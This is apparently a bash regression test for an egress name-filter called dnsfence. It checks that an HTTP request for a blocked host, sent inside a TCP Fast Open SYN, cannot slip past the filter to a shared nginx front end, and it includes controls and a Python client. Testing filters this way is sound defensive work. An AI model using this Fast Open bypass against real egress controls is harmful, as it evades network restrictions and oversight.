#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-or-later
# Invariant 11 against TCP Fast Open (a whole request in the SYN; 1 to 3
# bytes: test_name_check_fast_open_short_syn.sh): nginx on 198.18.1.10:80 serves
# www.allowed.test and evil.test by Host (a shared front end) with Fast
# Open on, as the kernel's net.ipv4.tcp_fastopen=3 and nginx's
# `fastopen=` allow. The workload resolved www.allowed.test through
# dnsfence. Fast Open needs no privilege: a client socket's first
# connection to an address asks for a cookie, every later one may carry
# its first bytes in the SYN itself (sendto MSG_FASTOPEN). The name check
# queues only ESTABLISHED packets of a flow, and the SYN is NEW: a request
# for evil.test in the SYN must not reach the front end all the same.
# Controls: the cookie connection (the allowed name, over Fast Open) is
# answered; the same evil.test request without Fast Open is reset; and
# with the check off (a live reload) the Fast Open request reaches
# evil.test's server block, so the capture below can see it.
source "$(dirname "$0")/lib.sh"
WL_UID=4242
df_setup
up sysctl -qw net.ipv4.tcp_fastopen=3
[ "$(wl sysctl -n net.ipv4.tcp_fastopen)" = 1 ] ||
	fail "the workload namespace's tcp_fastopen is not the kernel's default 1 (client on)"

df_front_end_pages
df_start_nginx 80 \
	"server { listen 198.18.1.10:80 default_server fastopen=64; server_name www.allowed.test; root $DF_TMP/www/allowed; }" \
	"server { listen 198.18.1.10:80; server_name evil.test; root $DF_TMP/www/evil; access_log $DF_TMP/evil-access.log; }"

sock="$DF_TMP/control.sock"
chmod 755 "$DF_TMP" # a reload reads the config as the daemon's user
ALLOW='["www.allowed.test"]'
COMMON=(allow="$ALLOW" ports='["tcp/80"]' control='{"socket": "'"$sock"'", "watch": false}')
df_start_dnsfence "${COMMON[@]}"
df_dig www.allowed.test A
expect_rcode NOERROR

# tfo_get SECRET HOST [plain]: one request for HOST carrying SECRET in its
# query, its first bytes in the SYN (Fast Open), or after the handshake
# with "plain". Prints what came back; exit 3 on a reset.
tfo_get() {
	df_wl_as $WL_UID timeout 20 "$DF_PY" - "$@" <<'EOF'
import socket, sys
secret, host = sys.argv[1], sys.argv[2]
plain = len(sys.argv) > 3
head = ("GET /?%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (secret, host)).encode()
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
reply = b""
try:
    # Blocking while it connects (a timeout makes the socket non-blocking,
    # and sendto would return EINPROGRESS), then bounded.
    if plain:
        s.connect(("198.18.1.10", 80))
        s.sendall(head)
    else:
        s.sendto(head, socket.MSG_FASTOPEN, ("198.18.1.10", 80))
    s.settimeout(8)
    while True:
        c = s.recv(4096)
        if not c:
            break
        reply += c
except (ConnectionResetError, BrokenPipeError) as e:
    print("reset: %s" % e)
    sys.exit(3)
except socket.timeout:
    print("timeout after %r" % reply[:80])
    sys.exit(4)
print("answered: %r" % reply.split(b"\r\n\r\n", 1)[-1][:40])
EOF
}
evil_saw() { [ -f "$DF_TMP/evil-access.log" ] && grep -qF "$1" "$DF_TMP/evil-access.log"; }

# Control: the allowed name over Fast Open (this connection fetches the
# cookie: the server's SYN-ACK carries it, the workload's kernel keeps it).
out="$(tfo_get cookie www.allowed.test 2>&1)" || fail "control: Fast Open request for www.allowed.test failed: $out"
grep -q "allowed-page" <<<"$out" || fail "control: www.allowed.test over Fast Open got: $out"
cookie="$(wl ip tcp_metrics show 198.18.1.10 2>&1)"
grep -q "fo_cookie" <<<"$cookie" || fail "control: the workload holds no Fast Open cookie for 198.18.1.10: $cookie"
ok "control: www.allowed.test over Fast Open answered; the workload's kernel holds the server's cookie"

# Control: the name check is on (evil.test after the handshake is reset).
rc=0
out="$(tfo_get plain-secret evil.test plain 2>&1)" || rc=$?
[ "$rc" -eq 3 ] || fail "control: evil.test without Fast Open was not reset (exit $rc): $out"
! evil_saw plain-secret || fail "control: evil.test's server got the request the check reset"
ok "control: evil.test after the handshake is reset, its server got nothing"

# The attack: the request for evil.test travels in the SYN.
rc=0
out="$(tfo_get tfo-secret-7f3a evil.test 2>&1)" || rc=$?
sleep 1
if evil_saw tfo-secret-7f3a; then
	fail "a Fast Open SYN carried a request for evil.test (not allowed) to the shared front end past the name check (client: $out): $(grep -F tfo-secret-7f3a "$DF_TMP/evil-access.log")"
fi
ok "the Fast Open request for evil.test never reached evil.test's server block (client: $out)"

# The allowed name over Fast Open, now that the workload holds the
# cookie: its SYN carries the request and is dropped, the kernel sends
# the SYN again without it and the request after the handshake, where the
# check reads it and lets it through.
out="$(tfo_get cookie-again www.allowed.test 2>&1)" || fail "www.allowed.test over Fast Open with the cookie held failed: $out"
grep -q "allowed-page" <<<"$out" || fail "www.allowed.test over Fast Open with the cookie held got: $out"
drops="$(wl iptables -w -L DNSFENCE-OUT -v -n -x | awk '/u32/ && /DROP/ && /tcp/ {s += $1} END {print s + 0}')"
[ "$drops" -ge 2 ] || fail "the SYN-with-data drop counted $drops packets, expected the two Fast Open SYNs"
ok "www.allowed.test over Fast Open still answered (its data SYN dropped and sent again as a plain SYN: $drops SYNs with data dropped)"

# Positive control: with the check off, the same Fast Open request reaches
# evil.test, so the capture above could have seen it.
df_config "${COMMON[@]}" name_check='{"mode": "off"}'
df_dnsfence reload
[ "$DF_CMD_RC" -eq 0 ] || fail "reload with the check off exited $DF_CMD_RC: $DF_CMD_ERR"
out="$(tfo_get tfo-control-9c1e evil.test 2>&1)" || fail "control: Fast Open evil.test with the check off failed: $out"
sleep 1
evil_saw tfo-control-9c1e || fail "control: with the check off, evil.test's server never logged the Fast Open request ($out)"
ok "control: with the check off the Fast Open request reaches evil.test ($out)"
expect_dnsfence_running
